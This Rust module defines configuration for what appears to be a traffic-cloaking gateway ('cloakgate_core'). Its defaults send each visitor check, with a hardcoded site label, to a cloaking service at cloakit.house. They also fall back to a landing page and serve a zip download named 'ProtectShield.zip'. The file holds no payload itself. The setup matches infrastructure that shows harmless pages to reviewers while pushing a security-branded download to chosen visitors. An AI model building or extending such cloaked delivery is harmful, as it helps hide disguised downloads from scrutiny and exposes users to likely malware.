use serde::{Deserialize, Serialize};

#[derive(Debug, Clone, Serialize, Deserialize, Default)]
pub struct AppConfig {
    #[serde(default)]
    pub server: ServerConfig,

    #[serde(default)]
    pub classifier: ClassifierConfig,

    #[serde(default)]
    pub audit: AuditConfig,

    #[serde(default)]
    pub download: DownloadConfig,

    #[serde(default)]
    pub logging: LoggingConfig,
}

#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct ServerConfig {
    #[serde(default = "default_server_host")]
    pub host: String,

    #[serde(default = "default_server_port")]
    pub port: u16,

    /// Page served when the permitted variant has no explicit target.
    #[serde(default = "default_landing_page")]
    pub landing_page: String,
}

fn default_server_host() -> String {
    "127.0.0.1".to_string()
}

fn default_server_port() -> u16 {
    8080
}

fn default_landing_page() -> String {
    "static/index.html".to_string()
}

impl Default for ServerConfig {
    fn default() -> Self {
        Self {
            host: default_server_host(),
            port: default_server_port(),
            landing_page: default_landing_page(),
        }
    }
}

#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct ClassifierConfig {
    #[serde(default = "default_classifier_endpoint")]
    pub endpoint: String,

    /// Opaque site identifier sent with every check.
    #[serde(default = "default_classifier_label")]
    pub label: String,

    /// Hard ceiling on the whole exchange, connect included.
    #[serde(default = "default_classifier_timeout_secs")]
    pub timeout_secs: u64,

    /// The upstream deployment this was ported from ran with peer
    /// verification off. Verification is on here unless explicitly
    /// disabled.
    #[serde(default = "default_classifier_verify_tls")]
    pub verify_tls: bool,
}

fn default_classifier_endpoint() -> String {
    "https://cloakit.house/api/v1/check".to_string()
}

fn default_classifier_label() -> String {
    "61eb8c9a040ace0e5806f7cb7f050721".to_string()
}

fn default_classifier_timeout_secs() -> u64 {
    15
}

fn default_classifier_verify_tls() -> bool {
    true
}

impl Default for ClassifierConfig {
    fn default() -> Self {
        Self {
            endpoint: default_classifier_endpoint(),
            label: default_classifier_label(),
            timeout_secs: default_classifier_timeout_secs(),
            verify_tls: default_classifier_verify_tls(),
        }
    }
}

#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct AuditConfig {
    /// Directory holding the daily request/exchange log files.
    #[serde(default = "default_audit_directory")]
    pub directory: String,
}

fn default_audit_directory() -> String {
    "./logs".to_string()
}

impl Default for AuditConfig {
    fn default() -> Self {
        Self {
            directory: default_audit_directory(),
        }
    }
}

#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct DownloadConfig {
    #[serde(default = "default_download_file_path")]
    pub file_path: String,

    /// Filename advertised in the Content-Disposition header.
    #[serde(default = "default_download_file_name")]
    pub file_name: String,
}

fn default_download_file_path() -> String {
    "./ProtectShield.zip".to_string()
}

fn default_download_file_name() -> String {
    "ProtectShield.zip".to_string()
}

impl Default for DownloadConfig {
    fn default() -> Self {
        Self {
            file_path: default_download_file_path(),
            file_name: default_download_file_name(),
        }
    }
}

#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct LoggingConfig {
    #[serde(default = "default_logging_enabled")]
    pub enabled: bool,

    /// If true, log to stderr.
    #[serde(default = "default_logging_console")]
    pub console: bool,

    /// If true, log to a file under `directory` (or OS temp dir if unset).
    #[serde(default = "default_logging_file")]
    pub file: bool,

    /// EnvFilter string, e.g. "info" or "cloakgate_core=debug".
    #[serde(default = "default_logging_level")]
    pub level: String,

    /// Optional directory for log files. If empty or unset, uses OS temp dir.
    #[serde(default)]
    pub directory: Option<String>,
}

fn default_logging_enabled() -> bool {
    true
}

fn default_logging_console() -> bool {
    true
}

fn default_logging_file() -> bool {
    true
}

fn default_logging_level() -> String {
    "info".to_string()
}

impl Default for LoggingConfig {
    fn default() -> Self {
        Self {
            enabled: default_logging_enabled(),
            console: default_logging_console(),
            file: default_logging_file(),
            level: default_logging_level(),
            directory: None,
        }
    }
}
